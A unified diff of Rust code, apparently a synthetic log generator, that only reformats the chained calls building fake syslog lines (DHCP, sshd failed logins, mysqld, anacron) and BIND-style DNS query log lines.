@@ -1453,11 +1211,7 @@ impl Lines for Syslog {
                     .text(" ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx");
             }
             10 => {
-                out.text("dhclient[")
-                    .number(590)
-                    .text("]: DHCPACK of 192.168.1.")
-                    .number(number & 255)
-                    .text(" from 192.168.1.1");
+                out.text("dhclient[").number(590).text("]: DHCPACK of 192.168.1.").number(number & 255).text(" from 192.168.1.1");
             }
             11 => {
                 out.text("NetworkManager[")
@@ -1466,8 +1220,7 @@ impl Lines for Syslog {
                     .number(clock.second)
                     .text(".")
                     .padded((number % 10_000) as u32, 4);
-                out.text("] dhcp4 (eth0): state changed new lease, address=192.168.1.")
-                    .number(number & 255);
+                out.text("] dhcp4 (eth0): state changed new lease, address=192.168.1.").number(number & 255);
             }
             12 => {
                 out.text("nginx: 2026/03/09 10:00:00 [warn] ")
@@ -1484,27 +1237,33 @@ impl Lines for Syslog {
                     .text("\"] rsyslogd was HUPed");
             }
             14 => {
-                out.text("dockerd[").number(901).text("]: time=\"2026-03-09T10:00:00Z\" level=info msg=\"ignoring event\" container=").hex(other, 16).hex(random, 16);
+                out.text("dockerd[")
+                    .number(901)
+                    .text("]: time=\"2026-03-09T10:00:00Z\" level=info msg=\"ignoring event\" container=")
+                    .hex(other, 16)
+                    .hex(random, 16);
             }
             15 => {
-                out.text("smartd[").number(577).text("]: Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from ").number(60 + (number & 7)).text(" to ").number(60 + (number >> 3 & 7));
+                out.text("smartd[")
+                    .number(577)
+                    .text("]: Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from ")
+                    .number(60 + (number & 7))
+                    .text(" to ")
+                    .number(60 + (number >> 3 & 7));
             }
             16 => {
-                out.text("ntpd[")
-                    .number(602)
-                    .text("]: Soliciting pool server ");
+                out.text("ntpd[").number(602).text("]: Soliciting pool server ");
                 self.push_client(rng, out);
             }
             17 => {
-                out.text("su[")
-                    .number(pid)
-                    .text("]: FAILED SU (to root) ")
-                    .text(user)
-                    .text(" on pts/")
-                    .number(number & 7);
+                out.text("su[").number(pid).text("]: FAILED SU (to root) ").text(user).text(" on pts/").number(number & 7);
             }
             18 => {
-                out.text("mysqld[").number(1203).text("]: Aborted connection ").number(number).text(" to db: 'shop' user: 'web' host: '10.0.3.17' (Got timeout reading communication packets)");
+                out.text("mysqld[")
+                    .number(1203)
+                    .text("]: Aborted connection ")
+                    .number(number)
+                    .text(" to db: 'shop' user: 'web' host: '10.0.3.17' (Got timeout reading communication packets)");
             }
             19 => {
                 out.text("haproxy[")
@@ -1527,25 +1286,16 @@ impl Lines for Syslog {
                     .number(2 + (number & 3))
                     .text(" times: [ Failed password for root from ");
                 self.push_client(rng, out);
-                out.text(" port ")
-                    .number(1024 + (number >> 1))
-                    .text(" ssh2]");
+                out.text(" port ").number(1024 + (number >> 1)).text(" ssh2]");
             }
             22 => {
-                out.text("anacron[")
-                    .number(pid)
-                    .text("]: Job `cron.daily' terminated");
+                out.text("anacron[").number(pid).text("]: Job `cron.daily' terminated");
             }
             _ => {
-                out.text("auditd[")
-                    .number(488)
-                    .text("]: Audit daemon rotating log files");
+                out.text("auditd[").number(488).text("]: Audit daemon rotating log files");
             }
         }
-        Cuts {
-            head: 14,
-            tail: None,
-        }
+        Cuts { head: 14, tail: None }
     }
 }
 
@@ -1561,11 +1311,7 @@ struct Dns {
 impl Dns {
     fn new(bytes: u64, rng: &mut Rng) -> Self {
         let scale = (bytes / 1_000).max(1_000_000);
-        Self {
-            clients: Zipf::new((scale / 50) as u32),
-            names: Zipf::new((scale / 4) as u32),
-            salt: rng.next(),
-        }
+        Self { clients: Zipf::new((scale / 50) as u32), names: Zipf::new((scale / 4) as u32), salt: rng.next() }
     }
 }
 
@@ -1575,33 +1321,19 @@ impl Lines for Dns {
     }
 
     fn stamp(&self, time: &Civil, out: &mut Vec<u8>) {
-        out.padded(time.day, 2)
-            .text("-")
-            .text(time.name())
-            .text("-")
-            .number(u64::from(time.year))
-            .text(" ");
-        out.padded(time.hour, 2)
-            .text(":")
-            .padded(time.minute, 2)
-            .text(":")
-            .padded(time.second, 2)
-            .text(".");
+        out.padded(time.day, 2).text("-").text(time.name()).text("-").number(u64::from(time.year)).text(" ");
+        out.padded(time.hour, 2).text(":").padded(time.minute, 2).text(":").padded(time.second, 2).text(".");
     }
 
     fn line(&mut self, rng: &mut Rng, clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts {
         let start = out.len();
         out.extend_from_slice(stamp);
-        out.padded(clock.millis(), 3)
-            .text(" queries: info: client @0x7f");
+        out.padded(clock.millis(), 3).text(" queries: info: client @0x7f");
         let random = rng.next();
         // Pointers are the same few objects over and over.
-        out.hex(mix(self.salt ^ (random & 0x3ff)) & !15, 10)
-            .text(" ");
+        out.hex(mix(self.salt ^ (random & 0x3ff)) & !15, 10).text(" ");
         push_address(out, mix(self.salt ^ u64::from(self.clients.draw(rng))));
-        out.text("#")
-            .number(1024 + (random >> 10) % 64_512)
-            .text(" (");
+        out.text("#").number(1024 + (random >> 10) % 64_512).text(" (");
 
         let hash = mix(self.salt ^ 0xd15 ^ u64::from(self.names.draw(rng)));
         let name = out.len();
@@ -1623,12 +1355,7 @@ impl Lines for Dns {
             _ => "CAA",
         };
         if kind == "PTR" {
-            out.number(hash & 255)
-                .text(".")
-                .number(hash >> 8 & 255)
-                .text(".")
-                .number(hash >> 16 & 255)
-                .text(".");
+            out.number(hash & 255).text(".").number(hash >> 8 & 255).text(".").number(hash >> 16 & 255).text(".");
             out.number(hash >> 24 & 255).text(".in-addr.arpa");
         } else {
             match hash >> 60 {
@@ -1638,27 +1365,15 @@ impl Lines for Dns {
                 10 => out.text("_").text(word(hash, 5)).text("._tcp."),
                 _ => out,
             };
-            out.text(word(hash, 0))
-                .text("-")
-                .text(word(hash, 1))
-                .number(hash >> 30 & 63);
-            out.text(
-                [
-                    ".com", ".net", ".org", ".example", ".co.uk", ".de", ".io", ".local",
-                ][(hash >> 40 & 7) as usize],
-            );
+            out.text(word(hash, 0)).text("-").text(word(hash, 1)).number(hash >> 30 & 63);
+            out.text([".com", ".net", ".org", ".example", ".co.uk", ".de", ".io", ".local"][(hash >> 40 & 7) as usize]);
         }
         let end = out.len();
         out.text("): query: ");
         out.extend_from_within(name..end);
         out.text(" IN ").text(kind).text(" ");
-        out.text(rng.pick(&[
-            "+", "+E(0)", "+E(0)K", "+E(0)DC", "-E(0)", "+ET(0)", "+E(0)D", "-",
-        ]));
+        out.text(rng.pick(&["+", "+E(0)", "+E(0)K", "+E(0)DC", "-E(0)", "+ET(0)", "+E(0)D", "-"]));
         out.text(" (192.0.2.53)");
-        Cuts {
-            head: name - start - 2,
-            tail: None,
-        }
+        Cuts { head: name - start - 2, tail: None }
     }
 }
